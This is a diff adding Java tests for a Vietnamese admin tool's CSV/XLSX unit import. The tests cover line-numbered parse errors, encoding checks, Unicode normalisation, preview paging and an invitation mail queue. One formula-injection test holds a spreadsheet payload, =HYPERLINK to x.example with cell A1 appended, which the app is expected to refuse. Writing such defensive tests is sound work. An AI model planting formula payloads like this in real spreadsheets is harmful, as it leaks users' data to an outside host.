@@ -24,6 +24,7 @@ import vn.lantoa.unit.UnitRepository;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
+import java.text.Normalizer;
 import java.util.List;
 import java.util.Map;
 
@@ -146,6 +147,196 @@ class ImportTest {
                 "application/octet-stream"))).contains("Tệp Excel bị hỏng");
         assertThat(error(admin.upload(url, "file", "x.csv", "Tên đơn vị,Loại\n".getBytes(StandardCharsets.UTF_8), "text/csv")))
                 .contains("chỉ có dòng tiêu đề");
+    }
+
+    @Test
+    void malformedCsvFilesAreRefusedInVietnameseNamingTheLine() {
+        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
+        String url = "/admin/u/" + world.d().id() + "/import";
+        byte[] threeLines = "Tên đơn vị,Loại\nTrường A,Trường\nTrường Bình Minh,Trường\n".getBytes(StandardCharsets.UTF_8);
+        // Line 3 as a Windows-1258 ("ANSI") file writes "Trường": not UTF-8.
+        byte[] legacyLine3 = concat("Tên đơn vị,Loại\nTrường A,Trường\n".getBytes(StandardCharsets.UTF_8),
+                new byte[]{'T', 'r', (byte) 0xDD, (byte) 0xF4, 'n', 'g', ',', 'x', '\n'});
+
+        String unclosed = error(admin.upload(url, "file", "x.csv",
+                "Tên đơn vị,Loại\nTrường Một,Trường\n\n\"Trường Hai,Trường\nTrường Ba,Trường\n".getBytes(StandardCharsets.UTF_8), "text/csv"));
+        String strayQuote = error(admin.upload(url, "file", "x.csv",
+                "Tên đơn vị,Loại\n\"Trường Một\" cũ,Trường\n".getBytes(StandardCharsets.UTF_8), "text/csv"));
+        String encoding = error(admin.upload(url, "file", "x.csv", legacyLine3, "text/csv"));
+        String junk = error(admin.upload(url, "file", "x.csv", concat(threeLines, new byte[]{0x00, 0x13, (byte) 0x89, 'P', 'N', 'G'}), "text/csv"));
+        String empty = error(admin.upload(url, "file", "x.csv", new byte[0], "text/csv"));
+        String blank = error(admin.upload(url, "file", "x.csv", "\uFEFF \r\n\r\n".getBytes(StandardCharsets.UTF_8), "text/csv"));
+        String noType = error(admin.upload(url, "file", "x.csv", "Tên đơn vị,Cấp học\nTrường A,TH\n".getBytes(StandardCharsets.UTF_8), "text/csv"));
+
+        assertThat(unclosed).startsWith("Tệp CSV sai định dạng ở dòng 4:").contains("dấu ngoặc kép");
+        assertThat(strayQuote).startsWith("Tệp CSV sai định dạng ở dòng 2:");
+        assertThat(encoding).contains("UTF-8").contains("dòng 3");
+        assertThat(junk).contains("dòng 4").contains("CSV UTF-8");
+        assertThat(empty).isEqualTo("Tệp rỗng.");
+        assertThat(blank).isEqualTo("Tệp không có dữ liệu.");
+        assertThat(noType).isEqualTo("Thiếu cột bắt buộc ở dòng tiêu đề (dòng 1): “Loại”.");
+        for (String message : List.of(unclosed, strayQuote, encoding, junk, empty, blank, noType)) {
+            assertThat(message).doesNotContainIgnoringCase("exception").doesNotContain("EOF").doesNotContain("encapsulated").doesNotContain("token");
+        }
+    }
+
+    @Test
+    void cellsThatASpreadsheetWouldRunAsFormulasAreRefusedByColumn() {
+        String t = world.tag();
+        String csv = "Tên đơn vị,Tên viết tắt,Loại,Cấp học,Địa chỉ,Điện thoại,Email quản trị,Họ tên quản trị\n"
+                + "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\",,Trường,TH,,,,\n"
+                + "Trường Công Thức " + t + ",+1+1,Trường,TH,-2+3,,,\n"
+                + "Trường Hợp Lệ " + t + ",,Trường,TH,Số 1 Lê Lợi,+84 912 345 678,,\n"
+                + "Trường Quản Trị " + t + ",,Trường,TH,,,ai-" + t + "@example.edu.vn,@SUM(1)\n";
+        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
+
+        Page preview = preview(admin, world.d().id(), "cong-thuc.csv", csv.getBytes(StandardCharsets.UTF_8));
+
+        var rows = preview.doc().select("tbody tr");
+        assertThat(preview.text()).contains("Có 3 dòng chưa hợp lệ");
+        assertThat(rows.get(0).text()).contains("Cột Tên đơn vị: Ô bắt đầu bằng \"=\" nên bảng tính sẽ hiểu là công thức");
+        assertThat(rows.get(1).text()).contains("Cột Tên viết tắt: Ô bắt đầu bằng \"+\"").contains("Cột Địa chỉ: Ô bắt đầu bằng \"-\"");
+        assertThat(rows.get(2).text()).contains("Hợp lệ");
+        assertThat(rows.get(3).text()).contains("Cột Họ tên quản trị: Ô bắt đầu bằng \"@\"");
+    }
+
+    @Test
+    void aFormulaInAnXlsxCellIsRefusedInsteadOfItsLastValue() throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        Workbook wb = new Workbook(out, "test", "1.0");
+        Worksheet ws = wb.newWorksheet("Sheet1");
+        ws.value(0, 0, "Tên đơn vị");
+        ws.value(0, 1, "Loại");
+        ws.value(0, 2, "Cấp học");
+        ws.formula(1, 0, "CONCATENATE(\"Trường \",\"Tiểu học\")");
+        ws.value(1, 1, "Trường");
+        ws.value(1, 2, "TH");
+        wb.finish();
+        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
+
+        Page preview = preview(admin, world.d().id(), "cong-thuc.xlsx", out.toByteArray());
+
+        assertThat(preview.doc().select("tbody tr").get(0).text()).contains("Cột Tên đơn vị: Ô bắt đầu bằng \"=\"");
+    }
+
+    @Test
+    void namesInAFileTypedWithDecomposedToneMarksAreStoredComposed() {
+        String t = world.tag();
+        String name = "Trường Tiểu học Nguyễn Trường Tộ " + t;
+        String admin = "Lê Thị Hường";
+        String csv = "Tên đơn vị,Loại,Cấp học,Email quản trị,Họ tên quản trị\n" + Normalizer.normalize(name, Normalizer.Form.NFD)
+                + ",Trường,TH,nfd-" + t + "@example.edu.vn," + Normalizer.normalize(admin, Normalizer.Form.NFD) + "\n";
+        Browser browser = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
+
+        Page preview = preview(browser, world.d().id(), "nfd.csv", csv.getBytes(StandardCharsets.UTF_8));
+        confirmAndWait(browser, preview);
+
+        Unit stored = units.findByParentIdOrderByName(world.d().id()).stream().filter(u -> u.name().endsWith("Tộ " + t)).findFirst().orElseThrow();
+        assertThat(stored.name().getBytes(StandardCharsets.UTF_8)).isEqualTo(name.getBytes(StandardCharsets.UTF_8));
+        assertThat(users.findByEmail("nfd-" + t + "@example.edu.vn").orElseThrow().fullName().getBytes(StandardCharsets.UTF_8))
+                .isEqualTo(admin.getBytes(StandardCharsets.UTF_8));
+    }
+
+    @Test
+    void aLongPreviewIsPagedAndTheErrorFilterFindsTheBadLinesOnLaterPages() {
+        String t = world.tag();
+        StringBuilder csv = new StringBuilder("Tên đơn vị,Loại,Cấp học,Email quản trị,Họ tên quản trị\n");
+        for (int i = 1; i <= 250; i++) {
+            // File line i + 1; line 151 (on the second page of a hundred) has a bad address.
+            String email = i == 150 ? "khong-phai-email" : "";
+            csv.append("Trường Dòng ").append(i).append(' ').append(t).append(",Trường,TH,").append(email).append(',')
+                    .append(i == 150 ? "Ai Đó" : "").append('\n');
+        }
+        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
+
+        Page first = preview(admin, world.d().id(), "dai.csv", csv.toString().getBytes(StandardCharsets.UTF_8));
+        String jobPage = "/admin/u/" + world.d().id() + "/import/" + jobId(first);
+        Page second = admin.get(jobPage + "?page=2");
+        Page onlyErrors = admin.get(jobPage + "?page=1&loi=1");
+
+        assertThat(first.doc().select("tbody tr")).hasSize(100);
+        assertThat(first.text()).contains("Có 1 dòng chưa hợp lệ").doesNotContain("khong-phai-email").contains("Trang 1/3");
+        assertThat(first.doc().select("nav.tabs a:contains(Chỉ dòng có lỗi)").attr("href")).isEqualTo("?page=1&loi=1#lines");
+        assertThat(first.doc().select("nav.tabs a:contains(Chỉ dòng có lỗi) .tag").text()).isEqualTo("1");
+        assertThat(second.doc().select("tbody tr td.num").eachText()).contains("151");
+        assertThat(onlyErrors.status()).isEqualTo(200);
+        assertThat(onlyErrors.doc().select("tbody tr")).hasSize(1);
+        assertThat(onlyErrors.doc().select("tbody tr").text()).contains("151").contains("Cột Email quản trị: Email không hợp lệ");
+        assertThat(admin.get(jobPage + "?page=99").doc().select("tbody tr td.num").first().text()).isEqualTo("202");
+    }
+
+    @Test
+    void aPreviewOfFiveThousandLinesIsALightPage() {
+        String t = world.tag();
+        StringBuilder csv = new StringBuilder("Mã,Tên đơn vị,Loại,Cấp học,Email quản trị,Họ tên quản trị\n");
+        for (int i = 1; i <= SheetReader.MAX_ROWS; i++) {
+            csv.append("nam-nghin-").append(i).append('-').append(t).append(",Trường Tiểu học Số ").append(i).append(" xã Ea Kao ").append(t)
+                    .append(",Trường,TH,hieutruong").append(i).append('-').append(t).append("@example.edu.vn,Nguyễn Văn Hiệu Trưởng ").append(i).append('\n');
+        }
+        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
+
+        Page preview = preview(admin, world.d().id(), "nam-nghin.csv", csv.toString().getBytes(StandardCharsets.UTF_8));
+
+        assertThat(preview.text()).contains("Tất cả 5.000 dòng hợp lệ");
+        assertThat(preview.doc().select("tbody tr")).hasSize(100);
+        System.out.println("Import preview of 5,000 lines, first page: " + preview.bytes().length + " bytes");
+        assertThat(preview.bytes().length).isLessThan(100_000);
+    }
+
+    @Test
+    void afterTheImportThePageFollowsTheInvitationQueueInsteadOfClaimingTheMailWasSent() {
+        String t = world.tag();
+        String csv = "Tên đơn vị,Loại,Cấp học,Email quản trị,Họ tên quản trị\n"
+                + "Trường Hàng Đợi Một " + t + ",Trường,TH,hd1-" + t + "@example.edu.vn,Người Một\n"
+                + "Trường Hàng Đợi Hai " + t + ",Trường,TH,hd2-" + t + "@example.edu.vn,Người Hai\n"
+                + "Trường Không Quản Trị " + t + ",Trường,TH,,\n";
+        Browser admin = new Browser(server.getURI()).signIn(world.adminD().email(), Fixtures.PASSWORD);
+        Page preview = preview(admin, world.d().id(), "hang-doi.csv", csv.getBytes(StandardCharsets.UTF_8));
+        long jobId = jobId(preview);
+        String jobPage = "/admin/u/" + world.d().id() + "/import/" + jobId;
+
+        Page done = confirmAndWait(admin, preview);
+        assertThat(done.text()).contains("Đã nhập xong 3 đơn vị").doesNotContain("đã được gửi email mời");
+        assertThat(done.doc().select("[data-queue-url]").attr("data-queue-url")).endsWith("/import/" + jobId + "/invitations");
+
+        Mailbox.await("hd1-" + t + "@example.edu.vn", 1);
+        Mailbox.await("hd2-" + t + "@example.edu.vn", 1);
+        awaitQueue(admin, jobPage, 0);
+        assertThat(admin.get(jobPage).text()).contains("Đã gửi 2/2 thư mời; 0 thư đang chờ trong hàng đợi; 0 thư không gửi được.")
+                .contains("Đã gửi tất cả thư mời.");
+
+        // The same two invitations as the page shows them while the queue is still working through them, then when one failed.
+        TestServers.sql("UPDATE mail_outbox SET status = 'PENDING', sent_at = NULL, next_attempt_at = '2100-01-01' WHERE batch = 'import-" + jobId + "'");
+        Page waiting = admin.get(jobPage);
+        assertThat(waiting.text()).contains("Đã gửi 0/2 thư mời; 2 thư đang chờ trong hàng đợi").contains("trang này tự cập nhật");
+        assertThat(waiting.doc().select("[data-queue-url]").attr("data-queued")).isEqualTo("2");
+        assertThat(admin.get(jobPage + "/invitations", "application/json").body()).contains("\"queued\":2").contains("\"sent\":0");
+
+        TestServers.sql("UPDATE mail_outbox SET status = 'FAILED' WHERE batch = 'import-" + jobId + "' AND to_address = 'hd1-" + t + "@example.edu.vn'");
+        TestServers.sql("UPDATE mail_outbox SET status = 'SENT' WHERE batch = 'import-" + jobId + "' AND to_address = 'hd2-" + t + "@example.edu.vn'");
+        assertThat(admin.get(jobPage).text()).contains("Đã gửi 1/2 thư mời; 0 thư đang chờ trong hàng đợi; 1 thư không gửi được.")
+                .contains("mời lại");
+    }
+
+    private void awaitQueue(Browser admin, String jobPage, int queued) {
+        long end = System.currentTimeMillis() + 10_000;
+        while (!admin.get(jobPage + "/invitations", "application/json").body().contains("\"queued\":" + queued)) {
+            if (System.currentTimeMillis() > end) {
+                throw new AssertionError("The invitations did not leave the queue: " + admin.get(jobPage + "/invitations", "application/json").body());
+            }
+            try {
+                Thread.sleep(100);
+            } catch (InterruptedException e) {
+                Thread.currentThread().interrupt();
+                return;
+            }
+        }
+    }
+
+    private static byte[] concat(byte[] a, byte[] b) {
+        byte[] both = java.util.Arrays.copyOf(a, a.length + b.length);
+        System.arraycopy(b, 0, both, a.length, b.length);
+        return both;
     }
 
     @Test
